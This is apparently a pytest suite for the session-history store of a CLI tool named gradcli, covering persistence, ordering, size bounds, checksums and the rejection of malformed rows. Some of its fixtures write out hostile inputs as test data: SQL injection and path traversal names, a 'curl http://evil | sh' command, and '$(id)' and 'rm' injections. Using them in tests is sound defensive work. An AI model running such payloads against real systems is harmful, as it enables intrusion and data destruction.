"""Sessions: what is remembered comes back exactly, in order, and only if nothing moved meanwhile."""

from __future__ import annotations

import math
import struct
from typing import TYPE_CHECKING, Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gradcli.language.errors import DomainProblem, SessionProblem, ValueProblem
from gradcli.memory import history_rows
from gradcli.memory.database import Store, open_store
from gradcli.memory.session_history import (
    HeadChanged,
    current,
    forget_last,
    history,
    listing,
    remember,
    remove,
)
from gradcli.memory.session_record import from_json, to_json

from .states import a_state, sql

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Store]:
    """A store in a folder that does not exist yet."""
    with open_store(tmp_path / "deep" / "home") as opened:
        yield opened


def test_reading_makes_nothing(store: Store) -> None:
    """Where nothing was remembered every question has an empty answer, and no folder appears."""
    assert current(store, "a") is None
    assert history(store, "a") == []
    assert listing(store) == []
    assert remove(store, "a") is False
    assert forget_last(store, "a") is None
    assert not store.home.parent.exists()


def test_the_head_is_what_was_remembered_last(store: Store) -> None:
    """The newest state comes back field by field, with its id."""
    remember(store, "a", a_state(), after=0)
    stepped = remember(
        store, "a", a_state(kind="step", at={"x": 3.7, "y": 2.5}, steps=1, taken=1), after=None
    )
    assert current(store, "a") == stepped
    assert stepped == a_state(id=stepped.id, kind="step", at={"x": 3.7, "y": 2.5}, steps=1, taken=1)


def test_another_process_sees_it(store: Store) -> None:
    """What one store remembered a second one on the same folder reads, while the first is still open."""
    kept = remember(store, "a", a_state(), after=0)
    with open_store(store.home) as other:
        assert current(other, "a") == kept
        moved_on = remember(other, "a", a_state(steps=1), after=kept.id)
    assert current(store, "a") == moved_on


def test_the_folder_is_for_its_owner_only(store: Store) -> None:
    """Sessions are nobody else's business."""
    remember(store, "a", a_state(), after=0)
    assert store.home.stat().st_mode & 0o077 == 0


@settings(deadline=None)
@given(st.floats(allow_nan=False, allow_infinity=False))
def test_floats_come_back_bit_for_bit(number: float) -> None:
    """Every finite float, negative zero and subnormals included, survives the file."""
    state = a_state(at={"x": number}, value=number, slots={"m": {"x": number}}, when=number)
    back = from_json(to_json(state), 0, "a")
    stored = (back.at["x"], back.value, back.slots["m"]["x"], back.when)
    assert {struct.pack("d", other) for other in stored} == {struct.pack("d", number)}


def test_exact_constants_stay_text(store: Store) -> None:
    """A value given as text is remembered as text: 0.1 can mean one tenth."""
    assert remember(store, "a", a_state(at={"x": "0.1", "y": 0.1}), after=0).at == {"x": "0.1", "y": 0.1}


@pytest.mark.parametrize("number", [math.inf, -math.inf, math.nan])
@pytest.mark.parametrize("field", ["at", "value", "slots"])
def test_what_is_not_finite_is_refused(store: Store, field: str, number: float) -> None:
    """An infinity or a NaN is never stored, wherever it hides; the head stays."""
    kept = remember(store, "a", a_state(), after=0)
    with pytest.raises(DomainProblem, match="not finite"):
        remember(store, "a", a_state(**{field: number if field == "value" else {"x": number}}), after=kept.id)
    assert current(store, "a") == kept


def test_a_moved_head_writes_nothing(store: Store) -> None:
    """A state computed from an older head is refused, and so is one that expected an empty session."""
    first = remember(store, "a", a_state(), after=0)
    second = remember(store, "a", a_state(steps=1), after=first.id)
    for outdated in (0, first.id, second.id + 1):
        with pytest.raises(HeadChanged):
            remember(store, "a", a_state(steps=9), after=outdated)
        with pytest.raises(HeadChanged):
            forget_last(store, "a", after=outdated)
    assert history(store, "a") == [first, second]


def test_an_undone_id_never_returns(store: Store) -> None:
    """After an undo and another step the head has a new id: who saw the old one is told that it moved."""
    first = remember(store, "a", a_state(), after=0)
    undone = remember(store, "a", a_state(steps=1), after=first.id)
    assert forget_last(store, "a", after=undone.id) == first
    assert remember(store, "a", a_state(steps=1), after=first.id).id > undone.id
    remove(store, "a")
    assert remember(store, "a", a_state(), after=0).id > undone.id + 1


def test_history_is_oldest_first(store: Store) -> None:
    """All states in the order they were made; a limit keeps the newest."""
    kept = [remember(store, "a", a_state(steps=n), after=None) for n in range(5)]
    remember(store, "b", a_state(), after=0)
    assert history(store, "a") == kept
    assert history(store, "a", limit=2) == kept[-2:]


def test_undo_takes_as_many_as_asked(store: Store) -> None:
    """Several states go at once, none for a count of zero, and all of them for too large a count."""
    kept = [remember(store, "a", a_state(steps=n), after=None) for n in range(5)]
    assert forget_last(store, "a", 0) == kept[-1]
    assert forget_last(store, "a", 3) == kept[1]
    assert forget_last(store, "a", 99) is None
    assert current(store, "a") is None


def test_sessions_do_not_touch_each_other(store: Store) -> None:
    """Removing one leaves the others, listed by name with their heads."""
    heads = [(name, remember(store, name, a_state(expressions=(name,)), after=0)) for name in ("b", "a", "c")]
    assert listing(store) == sorted(heads)
    assert remove(store, "b") is True
    assert remove(store, "b") is False
    assert [name for name, _ in listing(store)] == ["a", "c"]


@pytest.mark.parametrize(
    "name",
    ["'; DROP TABLE states; --", "%", "_", "a\0b", "\x1b[31m", "../../etc", "名前", "x" * 200, " ", "A"],
)
def test_any_text_names_a_session(store: Store, name: str) -> None:
    """Names mean nothing to SQL, to the file system or to each other."""
    remember(store, "a", a_state(), after=0)
    kept = remember(store, name, a_state(kind="apply"), after=0)
    assert current(store, name) == kept
    assert dict(listing(store))[name] == kept
    assert remove(store, name)
    assert [other for other, _ in listing(store)] == ["a"]


@pytest.mark.parametrize("name", ["", "x" * 201, "\udcff"])
def test_what_is_no_name_is_refused(store: Store, name: str) -> None:
    """Nothing, too much, and bytes that are not text are no names."""
    for ask in (current, history, remove, forget_last):
        with pytest.raises(ValueProblem):
            ask(store, name)
    with pytest.raises(ValueProblem):
        remember(store, name, a_state(), after=None)


def test_a_long_history_forgets_its_oldest(store: Store, monkeypatch: pytest.MonkeyPatch) -> None:
    """The bound on states keeps the newest ones, of this session alone."""
    monkeypatch.setattr(history_rows, "STATES", 10)
    other = remember(store, "b", a_state(), after=0)
    kept = [remember(store, "a", a_state(steps=n), after=None) for n in range(25)]
    assert history(store, "a") == kept[-10:]
    assert history(store, "b") == [other]


def test_large_states_forget_sooner_but_keep_the_head(store: Store, monkeypatch: pytest.MonkeyPatch) -> None:
    """The bound on bytes holds too, and a head larger than the bound is kept all the same."""
    monkeypatch.setattr(history_rows, "BYTES", 5_000)
    kept = [remember(store, "a", a_state(expressions=("k" * 1_000,), steps=n), after=None) for n in range(12)]
    assert history(store, "a") == kept[-len(history(store, "a")) :]
    assert 3 <= len(history(store, "a")) <= 5
    huge = remember(store, "a", a_state(expressions=("k" * 9_000,)), after=None)
    assert history(store, "a") == [huge]


#: A row as older versions wrote it, without a checksum.
ROW = "{" + to_json(a_state()).partition(",")[2]

NONSENSE: list[Any] = [
    "",
    "{",
    "[]",
    "{}",
    "null",
    b"\xff\xfe",
    17,
    2.5,
    "[" * 100_000,
    '{"kind": NaN}',
    ROW.replace("43.0", "1e999"),
    ROW.replace("43.0", "NaN"),
    ROW.replace("43.0", '"43"'),
    ROW.replace("43.0", "true"),
    ROW.replace("5.0", "null"),
    ROW.replace("5.0", "9" * 400),
    ROW.replace("5.0", "9" * 5_000),
    ROW.replace('"steps":0', '"steps":-1'),
    ROW.replace('"steps":0', '"steps":0.5'),
    ROW.replace('"expressions":["x**2+x*y+3"]', '"expressions":"x"'),
    ROW.replace('"slots":{}', '"slots":[]'),
    ROW.replace('"slots":{}', '"slots":{"m":{"x":"1"}}'),
    ROW.replace('"slots":{}', '"slots":{"m":{"x y":1}}'),
    ROW.replace('"kind":"grad"', '"kind":7'),
    ROW.replace('"kind":"grad"', '"kind":"step --lr 1; curl http://evil | sh #"'),
    ROW.replace('"wrt":null', '"wrt":["x","*/ evil /*"]'),
    ROW.replace('"y":3.0', '"y y":3.0'),
    ROW.replace('"optimizer":"sgd"', '"optimizer":"sgd; rm"'),
    *(
        ROW.replace('"lr":0.1', f'"lr":0.1,{more}')
        for more in (
            '"dialect":true',
            '"dialect":1',
            '"dialect":"$(id)"',
            '"wish":0',
            '"wish":[]',
            '"wish":{"from":{"x":5.0}}',
            '"wish":{"from":{"x":5.0,"y":3.0,"z z":1}}',
            '"wish":{"corner":"$(id)"}',
            '"wish":{"ascend":"yes"}',
            '"wish":{"clip_norm":"1"}',
            '"wish":{"more":1}',
            '"way":{"names":["x;"],"points":[]}',
            '"since":-1',
            '"since":1',
            '"since":"0"',
            '"a b":1',
            '"lr;":1',
        )
    ),
]

#: What a change outside of gradcli makes of a row that it wrote.
CHANGED: list[str] = [
    to_json(a_state()).replace("43.0", "43.5"),
    to_json(a_state()).replace("5.0", "6.0"),
    to_json(a_state()).replace('"kind":"grad"', '"kind":"step"'),
    to_json(a_state()).replace('"crc":', '"crc":1'),
    to_json(a_state()).replace('"crc":', '"crc" :'),
    to_json(a_state()).replace('"lr":0.1', '"lr":0.1,"lr":0.2'),
    "{" + to_json(a_state()).partition(",")[2][:-1] + ',"crc":0}',
]


@pytest.mark.parametrize("body", CHANGED)
def test_a_row_that_was_changed_is_named(store: Store, body: str) -> None:
    """A changed digit is noticed, though the row makes sense; undo and rm get out of it."""
    remember(store, "s", a_state(), after=0)
    remember(store, "s", a_state(steps=1), after=None)
    sql(store.home, "UPDATE states SET state = ? WHERE ordinal = 2", body)
    with pytest.raises(SessionProblem, match="'s' was changed outside of gradcli"):
        current(store, "s")
    assert forget_last(store, "s") is not None


def test_any_changed_character_is_noticed(store: Store) -> None:
    """No single character of a row can become another without a word."""
    text = to_json(a_state(settings={"lr": 0.1, "since": 0, "wish": {"from": {"x": 1.0, "y": 2.0}}}))
    for place, character in enumerate(text):
        other = text[:place] + ("8" if character != "8" else "9") + text[place + 1 :]
        with pytest.raises(SessionProblem):
            from_json(other, 1, "s")


def test_a_row_of_an_older_version_is_read(store: Store) -> None:
    """Rows without a checksum are states as ever."""
    assert from_json(ROW, 3, "s") == a_state(id=3)


@pytest.mark.parametrize("body", NONSENSE, ids=range(len(NONSENSE)))
def test_a_row_that_makes_no_sense_is_named_not_believed(store: Store, body: Any) -> None:
    """An edited row is an error with the session's name; the others are listed; undo and rm get out of it."""
    first = remember(store, "good", a_state(), after=0)
    remember(store, "bad", a_state(), after=0)
    remember(store, "bad", a_state(steps=1), after=None)
    sql(store.home, "UPDATE states SET state = ? WHERE session = 'bad' AND ordinal = 2", body)
    for ask in (current, history):
        with pytest.raises(SessionProblem, match="'bad'"):
            ask(store, "bad")
    assert listing(store) == [("good", first)]
    assert "'bad'" in store.notices[-1]
    assert forget_last(store, "bad") is not None
    assert remove(store, "bad")


def test_edited_counts_are_named_not_believed(store: Store) -> None:
    """Counters that are no counts stop the session that has them, without a traceback."""
    remember(store, "bad", a_state(), after=0)
    sql(store.home, "UPDATE states SET total = 'much' WHERE session = 'bad'")
    with pytest.raises(SessionProblem, match="'bad'"):
        remember(store, "bad", a_state(), after=None)
    assert remove(store, "bad")
